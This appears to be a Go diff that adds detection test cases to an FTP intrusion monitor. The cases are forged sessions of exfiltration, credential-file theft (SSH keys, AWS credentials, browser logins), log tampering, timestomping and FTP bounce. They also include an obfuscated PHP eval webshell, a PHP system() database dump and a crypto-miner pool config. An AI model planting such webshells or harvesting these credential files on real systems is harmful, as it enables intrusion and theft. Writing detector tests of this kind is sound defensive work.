@@ -15,6 +15,26 @@ import (
 )
 
 var intruders = []lookalike{
+	{"a message in the sizes of files", "numbers-are-no-code", "", sizedFiles("attack at dawn, at the bridge", "%0*d", "")},
+	{"a message in the sizes of files that are removed", "numbers-are-no-code", "", sizedFiles("attack at dawn, at the bridge", "%*x", "> DELE a.tmp\n< 250 ok\n")},
+	{"records of many sizes", "numbers-are-no-code", IsNormal, sizedFiles("attack at dawn, at the bridge", "%*x", "")},
+	{"NOOPs of a program with a cycle", "numbers-are-no-code", IsNormal, paused(2*time.Second, strings.Repeat("> NOOP\n< 200 ok\n", 40))},
+	{"a log without the lines about the client", "files-are-kept", "", moves([2]string{"RETR auth.log", logOf(aClient) + logOf("10.0.0.4")}, [2]string{"STOR auth.log", logOf("10.0.0.4")})},
+	{"a log without the lines about others", "files-are-kept", IsNormal, moves([2]string{"RETR app.log", logOf("10.0.0.5") + logOf("10.0.0.4")}, [2]string{"STOR app.log", logOf("10.0.0.4")})},
+	{"parts of an archive, and the program that made them", "no-sensitive-names", "", outside("> RETR rar.exe\n< 150 here\n< 226 done\n" + numberedLines(25, "> STOR DC01_C$.part%02d.rar\n< 150 go on\n< 226 done\n"))},
+	{"parts of an archive", "no-sensitive-names", IsNormal, outside(numberedLines(25, "> STOR Holiday.part%02d.rar\n< 150 go on\n< 226 done\n"))},
+	{"the mail, the browser and the documents of a person", "no-sensitive-names", "", outside(linesOf("> STOR %s\n< 150 go on\n< 226 done\n", "ada.pst", "key4.db", "logins.json", "Documents_ada.zip"))},
+	{"a copy of the home of a person", "no-sensitive-names", IsNormal, outside(linesOf("> STOR %s\n< 150 go on\n< 226 done\n", "ada.pst", "Documents_ada.zip", "notes.txt", "plan.ods"))},
+	{"a page that runs an encoded text, with an old time", "no-loot", "", encodedPage("19990101000000")},
+	{"a page that runs an encoded text, with its time", "no-loot", IsUnusual, encodedPage("20990101000000")},
+	{"a changed file with an old time", "times-are-true", IsUnusual, changedFile("19990101000000")},
+	{"a changed file with its time", "times-are-true", IsNormal, changedFile("20990101000000")},
+	{"a screen saver in two folders, and a miner", "no-signs-agree", "", moves([2]string{"STOR docs/Photo.scr", "MZ\x90"}, [2]string{"STOR www/Photo.scr", "MZ\x90"}, [2]string{"STOR config.json", `{"pools":[{"url":"stratum+tcp://pool.example:4444","user":"44AF","pass":"x"}]}`})},
+	{"an installer in two folders", "no-programs", IsNormal, moves([2]string{"STOR v1/setup.exe", "MZ\x90"}, [2]string{"STOR v2/setup.exe", "MZ\x90"})},
+	{"a stranger who delivers what the server was asked for", "data-with-the-partner", "", delivered("203.0.113.7:20")},
+	{"another address of a server with several", "data-with-the-partner", IsUnusual, delivered("192.0.2.22:20")},
+	{"a command from far away, and an ACK storm", "packets-come-one-way", "", stormed(12)},
+	{"a command from far away, and a few repeated acknowledgments", "packets-come-one-way", IsUnusual, stormed(3)},
 	{"passwords and keys of all who use a computer", "no-sensitive-names", "", session1(linesOf("> RETR %s\n< 150 here\n< 226 done\n", "Windows/Panther/unattend.xml", "inetpub/wwwroot/web.config", "Users/bob/Chrome/Login Data"))},
 	{"passwords and keys of one user", "no-sensitive-names", IsUnusual, session1(linesOf("> RETR %s\n< 150 here\n< 226 done\n", ".ssh/id_rsa", ".netrc", ".bash_history"))},
 	{"passwords and keys that a shell and a site have", "no-sensitive-names", "", session1(linesOf("> RETR %s\n< 150 here\n< 226 done\n", ".ssh/id_rsa", ".bash_history", "wp-config.php", ".aws/credentials"))},
@@ -331,5 +351,82 @@ func dumps(then string) func(*forge.Capture) {
 		move(t, 40000, "STOR d.php", `<?php system("mysqldump -ushop shop > d.sql"); ?>`)
 		move(t, 40001, "RETR d.sql", "-- MySQL dump 10.13\n")
 		t.Say(then).Say(bye).Peer.Close()
+	}
+}
+
+// outside is a session of a host in a private network with a server outside.
+func outside(lines string) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		dial(f, "10.40.3.50", "203.0.113.9:21").Say(hello).Say(lines).Say(bye).Peer.Close()
+	}
+}
+
+// sizedFiles stores a file for each letter of a text, with as many bytes as the letter's code, by a format of its width
+// and a number.
+func sizedFiles(text, format, then string) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		for i, letter := range text {
+			content := fmt.Sprintf(format, letter, 0)
+			if !strings.HasPrefix(content, "0") {
+				content = "x" + content[1:]
+			}
+			move(t, 40000+i, "STOR a.tmp", content)
+			t.Say(then)
+			f.Pass(2 * time.Second)
+		}
+		t.Say(bye).Peer.Close()
+	}
+}
+
+// logOf are lines of a log about a host.
+func logOf(host string) string {
+	return strings.Repeat("sshd[900]: Accepted password for root from "+host+" port 4001 ssh2\n", 4)
+}
+
+// encodedPage stores a page that runs an encoded text, and gives it a time.
+func encodedPage(time string) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		move(t, 40000, "STOR cache.php", `<?php eval(gzinflate(base64_decode("hlymLt7NuxvU"))); ?>`)
+		t.Say("> MFMT " + time + " cache.php\n< 213 ok").Say(bye).Peer.Close()
+	}
+}
+
+// changedFile fetches a file, stores another one in its place, and gives it a time.
+func changedFile(time string) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		move(t, 40000, "RETR Cc.txt", "before")
+		move(t, 40001, "STOR Cc.txt", "before and after")
+		t.Say("> MFMT " + time + " Cc.txt\n< 213 ok").Say(bye).Peer.Close()
+	}
+}
+
+// delivered is a session in active mode in which another host opens the second data connection.
+func delivered(from string) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		t := f.Control().Say(hello)
+		for i, opener1 := range []string{aServer + ":20", from} {
+			t.Say(fmt.Sprintf("> PORT 198,51,100,100,12,%d\n< 200 ok\n> RETR a\n< 150 here", 100+i))
+			download(f, opener1, addrPort(aClient, 3172+i), opener, 55)
+			t.Say("< 226 done")
+		}
+		t.Say(bye).Peer.Close()
+	}
+}
+
+// stormed is a session with a command from far away, after which both sides repeat an acknowledgment.
+func stormed(n int) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		t := f.Control().Say(hello).Say(strings.Repeat("> NOOP\n< 200 ok\n", 8))
+		t.Segment("P.", "DELE a.txt\r\n")
+		hops(f, 0, 31)
+		t.Say("< 250 ok")
+		for range n {
+			t.Segment(".", "")
+			t.Peer.Segment(".", "")
+		}
+		t.Say("> NOOP\n< 200 ok").Say(bye).Peer.Close()
 	}
 }
